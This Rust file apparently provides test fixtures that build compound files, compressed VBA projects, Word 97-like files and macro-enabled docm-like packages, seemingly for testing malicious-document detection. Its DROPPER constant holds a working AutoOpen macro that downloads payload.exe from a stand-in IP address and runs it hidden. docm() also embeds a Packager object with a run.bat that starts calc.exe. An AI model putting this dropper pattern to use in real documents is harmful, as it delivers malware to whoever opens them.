//! Office files: a compound file writer ([MS-CFB], versions 3 and 4), an MS-OVBA compressor
//! (literal-only or with copy tokens), a VBA project (`dir`, `PROJECT`, `_VBA_PROJECT` and
//! module streams, as Office lays them out), a `.doc`-like file holding one, and docm-like
//! packages.

pub use super::zip::{crc32, stored_zip};

use std::collections::BTreeMap;

const FREESECT: u32 = 0xFFFF_FFFF;
const ENDOFCHAIN: u32 = 0xFFFF_FFFE;
const FATSECT: u32 = 0xFFFF_FFFD;
const NOSTREAM: u32 = 0xFFFF_FFFF;

/// Word's root CLSID, {00020906-0000-0000-C000-000000000046}.
pub const WORD_CLSID: [u8; 16] = [
    0x06, 0x09, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46,
];

/// 2024-01-02T03:04:05Z as a FILETIME.
pub const SOME_TIME: u64 = (1_704_164_645 + 11_644_473_600) * 10_000_000;

/// A storage or a stream to write.
#[derive(Clone)]
enum Item {
    Storage {
        clsid: [u8; 16],
        created: u64,
        modified: u64,
    },
    Stream(Vec<u8>),
}

/// A compound file to write: streams and storages by path (`Macros/VBA/dir`); storages
/// named in a path exist without being added.
#[derive(Clone)]
pub struct CfbBuilder {
    sector_shift: u16,
    root_clsid: [u8; 16],
    root_modified: u64,
    items: BTreeMap<String, Item>,
}

impl Default for CfbBuilder {
    fn default() -> Self {
        Self::new()
    }
}

struct Node {
    name: String,
    item: Item,
    children: Vec<usize>,
}

/// CFB's name order: shorter first, then by upper-cased UTF-16 units.
fn cfb_order(a: &str, b: &str) -> std::cmp::Ordering {
    let key = |s: &str| {
        let units: Vec<u16> = s.to_uppercase().encode_utf16().collect();
        (units.len(), units)
    };
    key(a).cmp(&key(b))
}

impl CfbBuilder {
    /// A version 3 file (512-byte sectors).
    pub fn new() -> Self {
        Self {
            sector_shift: 9,
            root_clsid: [0; 16],
            root_modified: 0,
            items: BTreeMap::new(),
        }
    }

    /// A version 4 file (4096-byte sectors).
    pub fn v4() -> Self {
        Self {
            sector_shift: 12,
            ..Self::new()
        }
    }

    /// The root entry's CLSID and modification time.
    pub fn root(mut self, clsid: [u8; 16], modified: u64) -> Self {
        self.root_clsid = clsid;
        self.root_modified = modified;
        self
    }

    /// A storage with a CLSID and times.
    pub fn storage(mut self, path: &str, clsid: [u8; 16], created: u64, modified: u64) -> Self {
        self.items.insert(
            path.to_owned(),
            Item::Storage {
                clsid,
                created,
                modified,
            },
        );
        self
    }

    /// A stream.
    pub fn stream(mut self, path: &str, data: &[u8]) -> Self {
        self.items
            .insert(path.to_owned(), Item::Stream(data.to_vec()));
        self
    }

    /// Every stream and storage of a VBA project under `root` ("" for the root, as in a
    /// `vbaProject.bin`; `Macros` in a Word 97 file).
    pub fn vba(mut self, root: &str, project: &VbaProject) -> Self {
        let prefix = if root.is_empty() {
            String::new()
        } else {
            format!("{root}/")
        };
        for (path, data) in project.streams() {
            self = self.stream(&format!("{prefix}{path}"), &data);
        }
        self
    }

    /// The file's bytes.
    pub fn build(&self) -> Vec<u8> {
        let ssz = 1usize << self.sector_shift;
        // The tree: entry 0 is the root; storages are created for every path prefix.
        let mut nodes = vec![Node {
            name: "Root Entry".into(),
            item: Item::Storage {
                clsid: self.root_clsid,
                created: 0,
                modified: self.root_modified,
            },
            children: Vec::new(),
        }];
        let mut index: BTreeMap<String, usize> = BTreeMap::new();
        let storage = Item::Storage {
            clsid: [0; 16],
            created: 0,
            modified: 0,
        };
        for (path, item) in &self.items {
            let mut parent = 0;
            let parts: Vec<&str> = path.split('/').collect();
            for depth in 0..parts.len() {
                let sub = parts[..=depth].join("/");
                let last = depth + 1 == parts.len();
                let id = match index.get(&sub) {
                    Some(&id) => {
                        if last {
                            nodes[id].item = item.clone();
                        }
                        id
                    }
                    None => {
                        nodes.push(Node {
                            name: parts[depth].to_owned(),
                            item: if last { item.clone() } else { storage.clone() },
                            children: Vec::new(),
                        });
                        let id = nodes.len() - 1;
                        index.insert(sub, id);
                        nodes[parent].children.push(id);
                        id
                    }
                };
                parent = id;
            }
        }

        // Stream data: small streams in the mini stream, the others in sectors.
        let mut mini = Vec::new();
        let mut big: Vec<(usize, &[u8])> = Vec::new();
        let mut starts = vec![ENDOFCHAIN; nodes.len()];
        let mut minifat: Vec<u32> = Vec::new();
        for (id, node) in nodes.iter().enumerate() {
            if let Item::Stream(data) = &node.item {
                if data.is_empty() {
                    continue;
                }
                if data.len() < 4096 {
                    let first = (mini.len() / 64) as u32;
                    let count = data.len().div_ceil(64);
                    for k in 0..count as u32 {
                        minifat.push(if k + 1 == count as u32 {
                            ENDOFCHAIN
                        } else {
                            first + k + 1
                        });
                    }
                    starts[id] = first;
                    mini.extend_from_slice(data);
                    mini.resize(mini.len().div_ceil(64) * 64, 0);
                } else {
                    big.push((id, data));
                }
            }
        }
        let dir_sectors = (nodes.len() * 128).div_ceil(ssz);
        let minifat_sectors = (minifat.len() * 4).div_ceil(ssz);
        let mini_sectors = mini.len().div_ceil(ssz);
        let big_sectors: usize = big.iter().map(|(_, d)| d.len().div_ceil(ssz)).sum();
        let data_sectors = dir_sectors + minifat_sectors + mini_sectors + big_sectors;
        // FAT sectors: enough for themselves too.
        let per_fat = ssz / 4;
        let mut fat_sectors = 1;
        while fat_sectors * per_fat < fat_sectors + data_sectors {
            fat_sectors += 1;
        }
        assert!(fat_sectors <= 109, "no DIFAT sectors in this writer");
        let total = fat_sectors + data_sectors;
        let mut fat = vec![FREESECT; fat_sectors * per_fat];
        for entry in fat.iter_mut().take(fat_sectors) {
            *entry = FATSECT;
        }
        let mut next = fat_sectors as u32;
        let mut chain = |fat: &mut Vec<u32>, count: usize| -> u32 {
            if count == 0 {
                return ENDOFCHAIN;
            }
            let first = next;
            for k in 0..count as u32 {
                fat[(first + k) as usize] = if k + 1 == count as u32 {
                    ENDOFCHAIN
                } else {
                    first + k + 1
                };
            }
            next += count as u32;
            first
        };
        let dir_start = chain(&mut fat, dir_sectors);
        let minifat_start = chain(&mut fat, minifat_sectors);
        let mini_start = chain(&mut fat, mini_sectors);
        for &(id, data) in &big {
            starts[id] = chain(&mut fat, data.len().div_ceil(ssz));
        }

        // The directory: each storage's children as a balanced binary tree in CFB order.
        let mut left = vec![NOSTREAM; nodes.len()];
        let mut right = vec![NOSTREAM; nodes.len()];
        let mut child = vec![NOSTREAM; nodes.len()];
        fn balance(ids: &[usize], left: &mut [u32], right: &mut [u32]) -> u32 {
            if ids.is_empty() {
                return NOSTREAM;
            }
            let mid = ids.len() / 2;
            let id = ids[mid];
            left[id] = balance(&ids[..mid], left, right);
            right[id] = balance(&ids[mid + 1..], left, right);
            id as u32
        }
        for id in 0..nodes.len() {
            let mut kids = nodes[id].children.clone();
            kids.sort_by(|&a, &b| cfb_order(&nodes[a].name, &nodes[b].name));
            child[id] = balance(&kids, &mut left, &mut right);
        }
        let mut dir = Vec::with_capacity(dir_sectors * ssz);
        for (id, node) in nodes.iter().enumerate() {
            let mut e = [0u8; 128];
            let units: Vec<u16> = node.name.encode_utf16().collect();
            assert!(units.len() <= 31, "name too long: {}", node.name);
            for (k, u) in units.iter().enumerate() {
                e[2 * k..2 * k + 2].copy_from_slice(&u.to_le_bytes());
            }
            e[64..66].copy_from_slice(&(((units.len() + 1) * 2) as u16).to_le_bytes());
            let (kind, clsid, created, modified, start, size) = match &node.item {
                Item::Storage {
                    clsid,
                    created,
                    modified,
                } if id == 0 => (
                    5,
                    *clsid,
                    *created,
                    *modified,
                    mini_start,
                    mini.len() as u64,
                ),
                Item::Storage {
                    clsid,
                    created,
                    modified,
                } => (1, *clsid, *created, *modified, 0, 0),
                Item::Stream(data) => (2, [0; 16], 0, 0, starts[id], data.len() as u64),
            };
            e[66] = kind;
            e[67] = 1; // black
            e[68..72].copy_from_slice(&left[id].to_le_bytes());
            e[72..76].copy_from_slice(&right[id].to_le_bytes());
            e[76..80].copy_from_slice(&child[id].to_le_bytes());
            e[80..96].copy_from_slice(&clsid);
            e[100..108].copy_from_slice(&created.to_le_bytes());
            e[108..116].copy_from_slice(&modified.to_le_bytes());
            e[116..120].copy_from_slice(&start.to_le_bytes());
            e[120..128].copy_from_slice(&size.to_le_bytes());
            dir.extend_from_slice(&e);
        }
        // Unused entries: empty names, no siblings.
        while dir.len() < dir_sectors * ssz {
            let mut e = [0u8; 128];
            e[68..80].fill(0xFF);
            dir.extend_from_slice(&e);
        }

        let mut out = vec![0u8; ssz];
        out[..8].copy_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
        out[24..26].copy_from_slice(&0x3Eu16.to_le_bytes());
        out[26..28].copy_from_slice(&(if ssz == 512 { 3u16 } else { 4 }).to_le_bytes());
        out[28..30].copy_from_slice(&0xFFFEu16.to_le_bytes());
        out[30..32].copy_from_slice(&self.sector_shift.to_le_bytes());
        out[32..34].copy_from_slice(&6u16.to_le_bytes());
        let dir_count = if ssz == 512 { 0 } else { dir_sectors as u32 };
        out[40..44].copy_from_slice(&dir_count.to_le_bytes());
        out[44..48].copy_from_slice(&(fat_sectors as u32).to_le_bytes());
        out[48..52].copy_from_slice(&dir_start.to_le_bytes());
        out[56..60].copy_from_slice(&4096u32.to_le_bytes());
        out[60..64].copy_from_slice(&minifat_start.to_le_bytes());
        out[64..68].copy_from_slice(&(minifat_sectors as u32).to_le_bytes());
        out[68..72].copy_from_slice(&ENDOFCHAIN.to_le_bytes());
        out[72..76].copy_from_slice(&0u32.to_le_bytes());
        for k in 0..109 {
            let v = if k < fat_sectors { k as u32 } else { FREESECT };
            out[76 + 4 * k..80 + 4 * k].copy_from_slice(&v.to_le_bytes());
        }
        for v in &fat {
            out.extend_from_slice(&v.to_le_bytes());
        }
        out.extend_from_slice(&dir);
        let pad = |out: &mut Vec<u8>| out.resize(out.len().div_ceil(ssz) * ssz, 0);
        let mut minifat_bytes: Vec<u8> = minifat.iter().flat_map(|v| v.to_le_bytes()).collect();
        if !minifat_bytes.is_empty() {
            minifat_bytes.resize(minifat_sectors * ssz, 0xFF);
        }
        out.extend_from_slice(&minifat_bytes);
        out.extend_from_slice(&mini);
        pad(&mut out);
        for (_, data) in &big {
            out.extend_from_slice(data);
            pad(&mut out);
        }
        assert_eq!(out.len(), (total + 1) * ssz);
        out
    }
}

/// MS-OVBA 2.4.1.3.19.1: the bit count of a copy token `done` bytes into its chunk.
fn bit_count(done: usize) -> u32 {
    let mut bits = 0;
    while (1usize << bits) < done {
        bits += 1;
    }
    bits.max(4)
}

/// Compresses `data` into an MS-OVBA CompressedContainer (2.4.1.3.6). With `copy_tokens`
/// false, every token is a literal (a chunk whose literals do not fit is written raw, as
/// 2.4.1.3.10 says, padded with zeros to 4,096 bytes; keep such inputs under 3,640 bytes per
/// chunk to stay literal); with it, the longest match in the chunk becomes a copy token.
pub fn compress(data: &[u8], copy_tokens: bool) -> Vec<u8> {
    let mut out = vec![0x01];
    for chunk in data.chunks(4096) {
        let mut body = Vec::new();
        let mut at = 0;
        while at < chunk.len() {
            let flag_at = body.len();
            body.push(0u8);
            for bit in 0..8 {
                if at >= chunk.len() {
                    break;
                }
                let (mut best_len, mut best_off) = (0, 0);
                if copy_tokens && at > 0 {
                    let bits = bit_count(at);
                    let max_len = (0xFFFFusize >> bits) + 3;
                    for start in 0..at {
                        let mut len = 0;
                        while len < max_len
                            && at + len < chunk.len()
                            && chunk[start + len] == chunk[at + len]
                        {
                            len += 1;
                        }
                        if len > best_len {
                            best_len = len;
                            best_off = at - start;
                        }
                    }
                }
                if best_len >= 3 {
                    let bits = bit_count(at);
                    let token = (((best_off - 1) as u16) << (16 - bits)) | (best_len - 3) as u16;
                    body.extend_from_slice(&token.to_le_bytes());
                    body[flag_at] |= 1 << bit;
                    at += best_len;
                } else {
                    body.push(chunk[at]);
                    at += 1;
                }
            }
        }
        if body.len() <= 4096 {
            let header = 0xB000u16 | (body.len() as u16 + 2 - 3);
            out.extend_from_slice(&header.to_le_bytes());
            out.extend_from_slice(&body);
        } else {
            out.extend_from_slice(&0x3FFFu16.to_le_bytes());
            out.extend_from_slice(chunk);
            out.extend(std::iter::repeat_n(0u8, 4096 - chunk.len()));
        }
    }
    out
}

/// A module of a [`VbaProject`].
#[derive(Clone)]
pub struct VbaModule {
    /// Its name (also its stream's).
    pub name: String,
    /// Its source, as the VBA editor saves it (with its `Attribute` lines).
    pub code: String,
    /// A document module (ThisDocument) rather than a procedural one (a `.bas`).
    pub document: bool,
}

/// A VBA project as Office writes it.
#[derive(Clone)]
pub struct VbaProject {
    /// Its modules.
    pub modules: Vec<VbaModule>,
    /// Copy tokens in the compressed streams (else literal-only).
    pub copy_tokens: bool,
    /// Bytes of (fake) p-code before each module's source: the MODULEOFFSET.
    pub text_offset: u32,
}

fn record(out: &mut Vec<u8>, id: u16, data: &[u8]) {
    out.extend_from_slice(&id.to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(data);
}

fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

impl VbaProject {
    /// A project of these modules, literal-only compression, text offset 0.
    pub fn new(modules: &[(&str, &str, bool)]) -> Self {
        Self {
            modules: modules
                .iter()
                .map(|&(name, code, document)| VbaModule {
                    name: name.into(),
                    code: code.into(),
                    document,
                })
                .collect(),
            copy_tokens: false,
            text_offset: 0,
        }
    }

    /// The uncompressed `dir` stream (MS-OVBA 2.3.4.2), records in the specification's order.
    pub fn dir(&self) -> Vec<u8> {
        let mut d = Vec::new();
        record(&mut d, 0x0001, &1u32.to_le_bytes()); // SYSKIND: 32-bit Windows
        record(&mut d, 0x0002, &0x409u32.to_le_bytes()); // LCID
        record(&mut d, 0x0014, &0x409u32.to_le_bytes()); // LCIDINVOKE
        record(&mut d, 0x0003, &1252u16.to_le_bytes()); // CODEPAGE
        record(&mut d, 0x0004, b"Project"); // NAME
        record(&mut d, 0x0005, b""); // DOCSTRING
        record(&mut d, 0x0040, b"");
        record(&mut d, 0x0006, b""); // HELPFILEPATH
        record(&mut d, 0x003D, b"");
        record(&mut d, 0x0007, &0u32.to_le_bytes()); // HELPCONTEXT
        record(&mut d, 0x0008, &0u32.to_le_bytes()); // LIBFLAGS
        // VERSION: its size field (4) does not count its 6 bytes.
        d.extend_from_slice(&0x0009u16.to_le_bytes());
        d.extend_from_slice(&4u32.to_le_bytes());
        d.extend_from_slice(&0x5AB6_21E0u32.to_le_bytes());
        d.extend_from_slice(&0x000Cu16.to_le_bytes());
        record(&mut d, 0x000C, b""); // CONSTANTS
        record(&mut d, 0x003C, b"");
        // A reference to stdole.
        record(&mut d, 0x0016, b"stdole");
        record(&mut d, 0x003E, &utf16le("stdole"));
        let libid = b"*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#C:\\Windows\\System32\\stdole2.tlb#OLE Automation";
        let mut registered = Vec::new();
        registered.extend_from_slice(&(libid.len() as u32).to_le_bytes());
        registered.extend_from_slice(libid);
        registered.extend_from_slice(&0u32.to_le_bytes());
        registered.extend_from_slice(&0u16.to_le_bytes());
        record(&mut d, 0x000D, &registered);
        record(&mut d, 0x000F, &(self.modules.len() as u16).to_le_bytes()); // MODULES
        record(&mut d, 0x0013, &0xFFFFu16.to_le_bytes()); // COOKIE
        for m in &self.modules {
            record(&mut d, 0x0019, m.name.as_bytes());
            record(&mut d, 0x0047, &utf16le(&m.name));
            record(&mut d, 0x001A, m.name.as_bytes());
            record(&mut d, 0x0032, &utf16le(&m.name));
            record(&mut d, 0x001C, b"");
            record(&mut d, 0x0048, b"");
            record(&mut d, 0x0031, &self.text_offset.to_le_bytes());
            record(&mut d, 0x001E, &0u32.to_le_bytes());
            record(&mut d, 0x002C, &0xFFFFu16.to_le_bytes());
            record(&mut d, if m.document { 0x0022 } else { 0x0021 }, b"");
            record(&mut d, 0x002B, b"");
        }
        record(&mut d, 0x0010, b"");
        d
    }

    /// The `PROJECT` stream (MS-OVBA 2.3.1).
    pub fn project(&self) -> Vec<u8> {
        let mut p = String::from("ID=\"{5312AC8A-349D-4950-BDD0-49BE3C4DD0F0}\"\r\n");
        for m in &self.modules {
            if m.document {
                p.push_str(&format!("Document={}/&H00000000\r\n", m.name));
            } else {
                p.push_str(&format!("Module={}\r\n", m.name));
            }
        }
        p.push_str(
            "Name=\"Project\"\r\nHelpContextID=\"0\"\r\nVersionCompatible32=\"393222000\"\r\n",
        );
        p.push_str("CMG=\"C1C3DD0BE10FE10FE10FE10F\"\r\nDPB=\"A1A3BD2BC12CC12C\"\r\nGC=\"2B29354E354E35\"\r\n\r\n");
        p.push_str("[Host Extender Info]\r\n&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n\r\n");
        p.push_str("[Workspace]\r\n");
        for m in &self.modules {
            p.push_str(&format!("{}=0, 0, 0, 0, C\r\n", m.name));
        }
        p.into_bytes()
    }

    /// The project's streams, by path below its root.
    pub fn streams(&self) -> Vec<(String, Vec<u8>)> {
        let mut out = vec![
            ("PROJECT".to_owned(), self.project()),
            ("PROJECTwm".to_owned(), {
                let mut wm = Vec::new();
                for m in &self.modules {
                    wm.extend_from_slice(m.name.as_bytes());
                    wm.push(0);
                    wm.extend_from_slice(&utf16le(&m.name));
                    wm.extend_from_slice(&[0, 0]);
                }
                wm.extend_from_slice(&[0, 0]);
                wm
            }),
            // _VBA_PROJECT: version 0xFFFF, no performance cache (MS-OVBA 2.3.4.1).
            (
                "VBA/_VBA_PROJECT".to_owned(),
                vec![0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x03, 0x00],
            ),
            (
                "VBA/dir".to_owned(),
                compress(&self.dir(), self.copy_tokens),
            ),
        ];
        for m in &self.modules {
            let mut stream = vec![0xA5u8; self.text_offset as usize];
            stream.extend_from_slice(&compress(m.code.as_bytes(), self.copy_tokens));
            out.push((format!("VBA/{}", m.name), stream));
        }
        out
    }

    /// The project as a `vbaProject.bin` (its streams at the root).
    pub fn bin(&self) -> Vec<u8> {
        CfbBuilder::new().vba("", self).build()
    }
}

/// ThisDocument's source as Word saves it, with `body` after its attributes.
pub fn this_document(body: &str) -> String {
    format!(
        "Attribute VB_Name = \"ThisDocument\"\r\nAttribute VB_Base = \"1Normal.ThisDocument\"\r\nAttribute VB_GlobalNameSpace = False\r\nAttribute VB_Creatable = False\r\nAttribute VB_PredeclaredId = True\r\nAttribute VB_Exposed = True\r\nAttribute VB_TemplateDerived = True\r\nAttribute VB_Customizable = True\r\n{body}"
    )
}

/// A procedural module's source with `body` after its `Attribute VB_Name` line.
pub fn module(name: &str, body: &str) -> String {
    format!("Attribute VB_Name = \"{name}\"\r\n{body}")
}

/// The dropper of the tests: runs on open, shells out and downloads.
pub const DROPPER: &str = "Private Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long\r\n\r\nSub AutoOpen()\r\n    Dim path As String\r\n    path = Environ(\"TEMP\") & \"\\payload.exe\"\r\n    URLDownloadToFile 0, \"http://203.0.113.7/payload.exe\", path, 0, 0\r\n    Shell \"cmd /c \" & path, vbHide\r\nEnd Sub\r\n";

/// A VBA project with ThisDocument (empty) and Module1 holding [`DROPPER`].
pub fn dropper_project() -> VbaProject {
    VbaProject::new(&[
        ("ThisDocument", &this_document(""), true),
        ("Module1", &module("Module1", DROPPER), false),
    ])
}

/// A Word 97-like file: WordDocument, 1Table, summary information, and `project` under
/// `Macros`.
pub fn word97(project: &VbaProject) -> Vec<u8> {
    let mut word = vec![0xEC, 0xA5, 0xC1, 0x00];
    word.resize(4608, 0x11); // over the mini stream cutoff: in regular sectors
    CfbBuilder::new()
        .root(WORD_CLSID, SOME_TIME)
        .stream("WordDocument", &word)
        .stream("1Table", &[0x22; 600])
        .stream("\u{1}CompObj", b"\x01\x00\xfe\xff\x03\x0a\x00\x00")
        .stream("\u{5}SummaryInformation", &[0xFE, 0xFF, 0, 0, 5, 1, 2, 0])
        .storage("Macros", [0; 16], SOME_TIME, SOME_TIME)
        .vba("Macros", project)
        .build()
}

/// `[Content_Types].xml` of a macro-enabled Word document.
pub const DOCM_CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>"#;

/// The parts of a docm-like package holding `vba_project` as `word/vbaProject.bin` and
/// `embedding`, if any, as `word/embeddings/oleObject1.bin`.
pub fn docm_parts(vba_project: &[u8], embedding: Option<&[u8]>) -> Vec<(String, Vec<u8>)> {
    let mut parts = vec![
        ("[Content_Types].xml".into(), DOCM_CONTENT_TYPES.as_bytes().to_vec()),
        ("_rels/.rels".into(), br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#.to_vec()),
        ("word/document.xml".into(), br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Enable content</w:t></w:r></w:p></w:body></w:document>"#.to_vec()),
        ("word/_rels/document.xml.rels".into(), br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>"#.to_vec()),
        ("word/vbaProject.bin".into(), vba_project.to_vec()),
    ];
    if let Some(embedding) = embedding {
        parts.push(("word/embeddings/oleObject1.bin".into(), embedding.to_vec()));
    }
    parts
}

/// `parts` as the zip writers take them.
pub fn entries(parts: &[(String, Vec<u8>)]) -> Vec<(&str, &[u8])> {
    parts
        .iter()
        .map(|(name, data)| (name.as_str(), data.as_slice()))
        .collect()
}

/// A Packager object's `\x01Ole10Native` stream carrying `data` as `label`.
pub fn ole10native(label: &str, path: &str, data: &[u8]) -> Vec<u8> {
    let mut body = Vec::new();
    body.extend_from_slice(&2u16.to_le_bytes());
    body.extend_from_slice(label.as_bytes());
    body.push(0);
    body.extend_from_slice(path.as_bytes());
    body.push(0);
    body.extend_from_slice(&0x0003_0000u32.to_le_bytes());
    body.extend_from_slice(&((path.len() + 1) as u32).to_le_bytes());
    body.extend_from_slice(path.as_bytes());
    body.push(0);
    body.extend_from_slice(&(data.len() as u32).to_le_bytes());
    body.extend_from_slice(data);
    let mut out = (body.len() as u32).to_le_bytes().to_vec();
    out.extend_from_slice(&body);
    out
}

/// An embedded Packager object (`oleObject1.bin`) carrying `data` as `label`.
pub fn packager_object(label: &str, data: &[u8]) -> Vec<u8> {
    CfbBuilder::new()
        .root(
            // {0003000C-0000-0000-C000-000000000046}, the Packager.
            [
                0x0C, 0x00, 0x03, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46,
            ],
            0,
        )
        .stream(
            "\u{1}Ole10Native",
            &ole10native(label, &format!("C:\\Users\\a\\{label}"), data),
        )
        .build()
}

/// A docm-like package (stored zip) holding `project` and a Packager object carrying a
/// small batch file.
pub fn docm(project: &VbaProject) -> Vec<u8> {
    let embedding = packager_object("run.bat", b"@echo off\r\ncalc.exe\r\n");
    stored_zip(&entries(&docm_parts(&project.bin(), Some(&embedding))))
}
